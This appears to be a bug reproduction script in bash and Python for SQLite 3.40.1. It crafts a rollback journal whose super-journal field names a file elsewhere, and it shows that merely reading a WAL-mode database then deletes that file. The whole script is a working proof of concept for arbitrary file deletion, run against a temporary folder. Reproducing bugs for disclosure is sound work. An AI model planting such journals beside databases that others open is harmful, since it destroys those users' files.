#!/usr/bin/env bash
# SQLite 3.40.1: to read a database is to remove a file elsewhere, if somebody left a rollback journal beside it.
#
# Expected: reading a database that came from somebody else, even one in WAL mode, changes files beside it at most.
# Seen: a journal may end with the name of a super-journal (https://sqlite.org/fileformat.html). SQLite plays the journal
# back, looks whether the file of that name names other journals that are still there, and, as a text does not,
# removes it. The name may be any path that the user may write to.
#
# Output seen:
#   SQLite 3.40.1: reads [(1,)], precious.txt is there: False
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
python3 - "$folder" <<'PYTHON'
import sqlite3, struct, sys
from pathlib import Path

folder, magic, page = Path(sys.argv[1]), bytes.fromhex("d9d505f920a163d7"), 4096
(folder / "elsewhere").mkdir()
victim = folder / "elsewhere" / "precious.txt"
victim.write_text("mine")
made = sqlite3.connect(folder / "a.sqlite")
made.executescript("PRAGMA journal_mode = WAL; CREATE TABLE t (x); INSERT INTO t VALUES (1);")
made.close()
name = str(victim).encode()
head = (magic + struct.pack(">IIIII", 0, 0, 2, 512, page)).ljust(512, b"\0")
end = struct.pack(">I", (0x40000000 // page) + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
(folder / "a.sqlite-journal").write_bytes(head + end)
found = sqlite3.connect(folder / "a.sqlite").execute("SELECT x FROM t").fetchall()
print(f"SQLite {sqlite3.sqlite_version}: reads {found}, precious.txt is there: {victim.exists()}")
sys.exit("changed: it is kept" if victim.exists() else 0)
PYTHON
echo "as described"
